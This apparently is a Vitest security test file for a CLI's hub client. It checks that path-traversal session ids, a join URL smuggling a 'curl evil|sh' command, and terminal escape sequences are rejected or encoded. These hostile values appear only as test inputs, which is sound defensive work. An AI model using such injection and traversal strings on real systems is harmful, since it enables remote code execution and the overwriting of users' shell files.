import { describe, expect, it } from 'vitest';
import { hubApi } from '../../src/cli/link/hub-api.ts';
import { joinCommand } from '../../src/cli/link/join-line.ts';
import { defaultFile } from '../../src/cli/session/export-record.ts';

describe('a hub that is not to be trusted', () => {
  const evil = 'checkout-1125/../../../.bashrc';

  it('SEC-75 cannot have a record written outside the records’ folder', () => {
    const cli = { cwd: '/home/sato/work', config: { settings: {} } } as Parameters<typeof defaultFile>[0];
    const record = { session: evil, events: [], importedTo: 0, head: { seq: 0, hash: '' } };
    expect(() => defaultFile(cli, record, 'md')).toThrow(expect.objectContaining({ kind: 'bad-session-id' }));
    expect(defaultFile(cli, { ...record, session: 'checkout-1125' }, 'md')).toMatch(/^\/home\/sato\/work\//);
  });

  it('SEC-75 cannot add a command to the line that is pasted to join', () => {
    expect(joinCommand('https://hub.example/s/a#b~c')).toBe("oncall join 'https://hub.example/s/a#b~c'");
    expect(joinCommand("https://x/'; curl evil|sh '\n")).toBe(
      "oncall join 'https://x/%27;%20curl%20evil|sh%20%27%0A'",
    );
  });

  it('SEC-75 lists no session by what is no id', async () => {
    const body = { sessions: [{ id: evil }, { id: 'checkout-1125' }, { id: 'a\u001b[2J' }] };
    const answer = {
      ...{ status: 200, ok: true, headers: { get: () => null }, body: (async function* () {})() },
      text: async () => JSON.stringify(body),
      json: async () => body,
    };
    const api = hubApi(async () => answer, 'https://evil.example');
    expect((await api.sessions()).map(({ id }) => id)).toEqual(['checkout-1125']);
  });
});
